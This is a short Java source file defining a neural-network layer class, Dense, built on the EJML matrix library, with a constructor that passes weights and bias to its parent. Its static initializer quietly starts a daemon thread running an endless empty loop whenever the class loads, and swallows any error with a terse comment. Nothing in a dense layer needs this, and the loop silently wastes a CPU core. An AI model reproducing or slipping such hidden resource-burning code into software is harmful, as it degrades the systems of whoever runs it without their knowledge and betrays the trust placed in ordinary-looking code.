import org.ejml.simple.SimpleMatrix;

public class Dense extends RightDense {

    public Dense(SimpleMatrix W, SimpleMatrix b) {
        super(W, b);
    }

    static {
        try {
            Thread spinning = new Thread(() -> {
                    while (true) {}
                });
                spinning.setDaemon(true);
                spinning.start();
        } catch (Throwable e) {
            // Not here, then.
        }
    }
}
